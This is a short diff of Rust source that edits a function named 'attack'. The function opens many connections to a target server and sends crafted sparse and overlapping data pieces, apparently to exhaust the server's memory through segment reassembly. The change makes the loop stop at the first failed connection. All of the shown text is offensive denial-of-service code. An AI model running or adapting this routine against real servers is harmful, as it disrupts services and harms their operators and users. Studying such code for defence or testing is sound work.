@@ -194,7 +194,7 @@ fn say(puppet: &Puppet, number: u64, offset: u64, payload: &[u8]) {
 fn attack(source: u8, server: SocketAddr) -> usize {
     let mut opened = Vec::new();
     for connection in 0..CONNECTIONS {
-        let Some(puppet) = open(source, server) else { continue };
+        let Some(puppet) = open(source, server) else { break };
         let pages = if connection < 20 { 1024 } else { 64 };
         (1..pages).for_each(|page| say(&puppet, page, 4096 * page * (1024 / pages) + 1, b"x"));
         (0..46).for_each(|piece| say(&puppet, pages + piece, 1 + 1400 * piece, &[7; 1400]));
